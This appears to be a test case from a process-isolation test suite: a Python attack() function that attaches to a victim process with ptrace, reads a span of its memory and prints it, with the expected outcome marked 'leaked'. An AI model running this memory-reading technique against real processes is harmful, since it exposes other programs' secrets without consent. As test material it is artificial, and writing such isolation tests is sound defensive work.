# oracle: leaked
import ctypes
import os
import struct

from host import ADDRESS, LENGTH, VICTIM

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, VICTIM, None, None) == 0:
        os.waitpid(VICTIM, 0x40000000)
        words = [libc.ptrace(2, VICTIM, ADDRESS + 8 * n, None) for n in range(LENGTH // 8 + 1)]
        print(b"".join(struct.pack("<q", word) for word in words))
        libc.ptrace(17, VICTIM, None, None)
